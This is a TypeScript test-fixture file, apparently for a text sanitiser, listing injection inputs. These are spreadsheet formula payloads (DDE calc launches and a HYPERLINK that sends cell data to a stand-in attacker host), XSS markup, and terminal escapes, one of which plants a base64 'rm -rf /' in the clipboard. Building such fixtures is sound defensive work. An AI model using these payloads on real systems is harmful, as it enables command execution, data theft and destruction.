/** Texts that a scanned act, a file name or a hand-made PDF may hold, by what they attack. */
export const FORMULAS = [
  '=1+1',
  '+33 1 02 03 04 05',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFF1D1+1',
  '\u200B=1+1',
  '"=1+1',
  '=HYPERLINK("http://attaquant.invalid/?x="&A1;"Détail")',
  'a";=1+1;"b',
  'prudence;=1+1',
  "sûr\n=cmd|'/C calc'!A1",
  '- 12 places, + 3',
];

/** What looks like a formula and is only a number: its minus belongs to the act. */
export const NEGATIVES = ['- 1 250,00 €', '-125', '\u2212 1\u202F250,00\u00A0€', '- 3,5'];

export const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--',
  ']]><x/>',
  '&lt;b&gt; reste tel quel',
];

export const TERMINAL = [
  '\u001B[2J\u001B[H',
  '\u001B]0;titre\u0007',
  '\u001B]52;c;cm0gLXJmIC8=\u0007',
  '\u009B31m',
  'ligne\r\nfausse ligne',
  '\u2028 INFO faux',
  '1 000\u202E 000 5',
  '\u2066total\u2069',
];
